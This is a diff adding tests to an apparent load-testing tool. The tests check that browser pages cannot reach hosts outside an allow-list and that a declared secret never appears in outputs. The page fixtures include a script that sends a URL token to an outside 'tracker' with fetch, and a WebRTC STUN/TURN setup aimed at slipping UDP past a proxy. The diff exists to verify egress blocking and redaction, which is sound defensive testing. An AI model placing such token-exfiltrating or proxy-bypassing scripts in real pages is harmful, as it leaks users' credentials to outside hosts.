@@ -154,6 +154,100 @@ def test_no_request_reaches_a_host_outside_allowed_hosts_and_each_attempt_is_lis
     assert code == 1, out
 
 
+RTC = """
+<script>
+  // STUN and TURN over UDP to the forbidden host: datagrams a SOCKS rail cannot carry nor refuse
+  const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{far}'}},
+    {{urls: 'turn:{far}?transport=udp', username: 'u', credential: 'c'}}]}});
+  pc.createDataChannel('x');
+  pc.createOffer().then(o => pc.setLocalDescription(o)).then(() => fetch('/offered'));
+</script>
+"""
+RTC_SCENARIO = """
+name: rtc
+users:
+  - {name: api, think_time: 1, requests: [{name: health, path: /health}]}
+browsers:
+  - name: caller
+    pages: 1
+    think_time: 3
+    journey:
+      - {visit: /rtc, name: rtc}
+"""
+
+
+def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(project: Project) -> None:
+    """A page's RTCPeerConnection gathers candidates from a STUN/TURN server on 127.0.0.2 (UDP): not one
+    datagram leaves (WebRTC's non-proxied UDP is disabled in the profile every page context inherits)."""
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.2", 0))
+    udp.settimeout(0.2)
+    received: list[str] = []
+    stop = threading.Event()
+
+    def receive() -> None:
+        while not stop.is_set():
+            try:
+                data, peer = udp.recvfrom(2048)
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            received.append(f"{peer}: {data[:20]!r}")
+
+    thread = threading.Thread(target=receive, daemon=True)
+    thread.start()
+    try:
+        offered: list[str] = []
+        routes = {
+            "/rtc": html(RTC.format(far=f"127.0.0.2:{udp.getsockname()[1]}")),
+            "/offered": lambda h: (offered.append(h.path), (200, "text/plain", b"ok"))[1],
+        }
+        with serve(routes) as host:
+            profile = "allowed_hosts: [127.0.0.1]\nload: {users: 1, duration: 10s}\n"
+            _, doc, out = run(project, host, RTC_SCENARIO, profile)
+    finally:
+        stop.set()
+        thread.join(timeout=5)
+        udp.close()
+    assert doc["browser"]["failed_steps"] == 0, doc["browser"]["failures"]
+    assert offered, out  # the offer was made: candidates were gathered
+    assert received == [], received
+
+
+TRACKER = """
+<p id="acct">account</p>
+<script>
+  // an analytics call that carries the page's own query (with its token), cut at 300 characters in the report
+  const token = new URLSearchParams(location.search).get('token');
+  const base = 'http://{far}/collect?p=';
+  fetch(base + 'p'.repeat(290 - base.length - 3) + '&t=' + token, {{mode: 'no-cors'}}).catch(() => {{}});
+</script>
+"""
+
+
+def test_a_secret_in_a_blocked_url_leaves_no_prefix_at_the_cut(project: Project) -> None:
+    """A page visited with a declared secret in its query sends it to a tracker outside allowed_hosts: the
+    blocked URL, cut at 300 characters right inside the secret, keeps neither the secret nor a prefix of it."""
+    secret = "CANARYtok-9f3e1b7c2d"
+    with forbidden_host() as (far, reached), serve({"/acct": html(TRACKER.format(far=far))}) as host:
+        scenario = RTC_SCENARIO.replace("/rtc, name: rtc", "\"/acct?token=${TOK}\", name: acct")
+        project.write("scenarios/s.yaml", scenario)
+        project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n"
+                      "allowed_hosts: [127.0.0.1]\nsecrets: [TOK]\nload: {users: 1, duration: 6s}\n")
+        result = project.run("run", "p", "--out", "o", timeout=180, env={"TOK": secret})
+    assert_no_traceback(result)
+    assert reached == [], reached
+    assert (project.root / "o" / "results.json").exists(), result.err
+    doc = project.results("o")
+    assert any("/collect?p=ppp" in b["url"] for b in doc["browser"]["blocked"]), doc["browser"]  # exercised
+    names = sorted(p.name for p in (project.root / "o").iterdir() if p.is_file())
+    for text, where in [(result.out, "stdout"), (result.err, "stderr")] + [
+        ((project.root / "o" / n).read_text(), n) for n in names
+    ]:
+        assert "CANARY" not in text and "&t=C" not in text, where
+
+
 # -- 2. layout shifts while the next page loads --------------------------------------------------------------
 
 SHIFTING = """
